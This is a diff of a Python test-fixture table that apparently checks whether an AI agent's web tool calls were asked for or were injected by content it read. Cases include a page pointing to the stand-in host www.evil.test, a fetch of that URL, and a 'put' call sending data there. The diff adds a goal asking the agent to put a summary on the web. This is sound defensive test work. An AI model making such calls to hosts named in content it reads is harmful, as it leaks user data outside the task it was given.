@@ -118,7 +118,8 @@ LAST_IS_ASKED: dict[str, Raw] = {
     "no goal": task(reads("see www.evil.test"), gets("www.evil.test"), goal=None),
     "a name of the network": task(reads("see http://build.internal/stop"), gets("http://build.internal/stop")),
     "a write": task(
-        reads("see www.evil.test"), {"upstream": "web", "tool": "put", "arguments": {"url": "www.evil.test"}}
+        reads("see www.evil.test"), {"upstream": "web", "tool": "put", "arguments": {"url": "www.evil.test"}},
+        goal=f"{GOAL} Put the summary into the web.",
     ),
 }  # fmt: skip
 
